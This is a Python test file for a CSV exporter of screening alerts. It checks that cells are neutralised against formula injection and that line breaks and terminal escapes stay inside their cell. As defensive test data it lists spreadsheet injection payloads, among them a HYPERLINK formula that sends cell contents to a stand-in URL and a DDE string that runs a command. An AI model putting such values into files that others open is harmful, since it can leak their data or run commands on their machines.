"""CSV of alerts: a row is a line, a column keeps its place, and no cell is a formula."""

from __future__ import annotations

import csv
import io

import pytest

from sekisho.cli.alert_csv import AlertSheet, cell
from sekisho.model import Subject
from tests.cli.test_alert_table import alert


def rows(*alerts: object) -> list[dict[str, str]]:
    stream = io.StringIO()
    sheet = AlertSheet(stream)
    for one in alerts:
        sheet.add(one)  # type: ignore[arg-type]
    return list(csv.DictReader(io.StringIO(stream.getvalue())))


def test_a_row_says_who_what_why_and_where_to_look() -> None:
    (row,) = rows(alert())
    assert row["subject"] == "АО «Ремдизель»"
    assert (row["list_id"], row["entry_id"], row["grade"], row["score"]) == ("jp-x", "308", "strong", "0.9000")
    assert (row["verdict"], row["severity"], row["legal_basis"]) == ("prohibited", "critical", "Order art. 2")
    assert (row["topic"], row["partition"], row["offset"], row["alert_id"]) == ("t", "0", "1", "a")


@pytest.mark.parametrize(
    "hostile",
    [
        '=HYPERLINK("http://x/?"&A1)',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "  =1+1",
        "\u3000＝1+1",
        "＠SUM(A1)",
    ],
)
def test_no_cell_is_a_formula(hostile: str) -> None:
    (row,) = rows(alert(subject=Subject("party", "consignee", hostile), message=hostile))
    for column in ("subject", "message"):
        assert row[column].startswith("'"), row[column]
    assert len(rows(alert(subject=Subject("party", "consignee", hostile)), alert())) == 2


@pytest.mark.parametrize("harmless", ["Acme (Holdings)", "株式会社", "'quoted'", "1+1 Ltd", "a@b.example", ""])
def test_other_text_stays_as_it_is(harmless: str) -> None:
    assert cell(harmless) == harmless


def test_our_own_numbers_stay_numbers() -> None:
    assert cell(-3) == "-3"


def test_lines_and_what_acts_on_a_terminal_do_not_leave_their_cell() -> None:
    (row,) = rows(alert(message='one\ntwo\x1b[2J, "three"'))
    assert row["message"] == 'one two␦[2J, "three"'


def test_an_alert_without_match_or_measure_has_every_column() -> None:
    (row,) = rows(alert(matches=(), measures=()))
    assert row["list_id"] == row["measures"] == ""
    assert None not in row
    assert None not in row.values()
